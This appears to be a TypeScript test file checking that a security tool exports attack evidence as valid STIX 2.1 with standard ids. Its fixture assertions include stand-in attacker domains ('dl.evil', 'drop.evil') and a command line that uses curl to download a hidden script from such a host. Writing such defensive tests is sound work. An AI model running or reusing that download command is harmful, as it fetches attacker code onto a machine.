import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { stix, uuid5 } from '../../../functions/export/stix.ts';
import { hasStix, hasStixValidator, opened } from './consumer.ts';
import { attack, hostileGraph } from './graphs.ts';

type StixObject = { readonly type: string; readonly id: string } & Readonly<Record<string, unknown>>;
interface Read {
  readonly dangling: readonly string[];
  readonly twice: number;
  readonly objects: readonly StixObject[];
}

it('makes UUIDs of version 5 as RFC 9562 does', () => {
  expect(uuid5('6ba7b810-9dad-11d1-80b4-00c04fd430c8', 'www.example.com')).toBe('2ed6657d-e927-568b-95e1-2665a8aea6a2');
});

describe.skipIf(!hasStix)('STIX 2.1, as read strictly by the package stix2', () => {
  let made: Awaited<ReturnType<typeof attack>>;
  let read: Read;
  beforeAll(async () => {
    made = await attack();
    read = opened<Read>('stix', [stix(made.graph)])[0]!;
  });

  it('is valid, and holds the observables of an attack', () => {
    expect(read).toMatchObject({ dangling: [], twice: 0 });
    const values = (type: string) => read.objects.filter((one) => one.type === type).map(({ value }) => value);
    expect(values('domain-name')).toEqual(expect.arrayContaining(['drop.evil', 'dl.evil']));
    expect(values('ipv4-addr')).toEqual(expect.arrayContaining(['203.0.113.9', '127.66.0.1']));
    expect(values('url')).toContain('http://dl.evil/x');
    expect(read.objects).toContainEqual(expect.objectContaining({ type: 'file', name: '.x.js' }));
    expect(read.objects).toContainEqual(
      expect.objectContaining({ type: 'process', command_line: 'curl -o /tmp/.x.js http://dl.evil/x' }),
    );
    expect(read.objects).toContainEqual(expect.objectContaining({ type: 'note', content: 'nodes: 7 later ones' }));
  });

  it.skipIf(!hasStixValidator)('has no errors for OASIS’s own validator', () => {
    expect(opened('stix-oasis', [stix(made.graph)])).toEqual([{ errors: [] }]);
  });

  it('names with each request what was seen in it', () => {
    const plant = read.objects.find(
      (one) =>
        one.type === 'observed-data' &&
        JSON.stringify(one.external_references ?? '').includes(`request:${made.cards.id}:req-plant`),
    )!;
    const refs = new Set(plant.object_refs as string[]);
    const seen = read.objects.filter(({ id }) => refs.has(id)).map(({ value, name }) => value ?? name);
    expect(seen).toEqual(expect.arrayContaining(['dl.evil', '.x.js', '203.0.113.9']));
    expect(seen).not.toContain('drop.evil');
  });

  it('gives observables the ids that the standard prescribes, the same in every export', () => {
    const domain = read.objects.find(({ value }) => value === 'drop.evil')!;
    expect(domain.id).toBe(`domain-name--${uuid5('00abedb4-aa42-466c-9fed-23bfb40ae7e4', '{"value":"drop.evil"}')}`);
    const { nodes, edges, cut } = made.graph;
    expect(stix({ nodes: [...nodes], edges: [...edges], cut })).toBe(stix(made.graph));
  });

  it('stays valid whatever the evidence holds', () => {
    const graphs = fc.sample(hostileGraph, { numRuns: 40, seed: 13 });
    const all = opened<Read>(
      'stix',
      graphs.map((one) => stix(one)),
    );
    for (const one of all) expect(one).toMatchObject({ dangling: [], twice: 0 });
  }, 120_000);
});
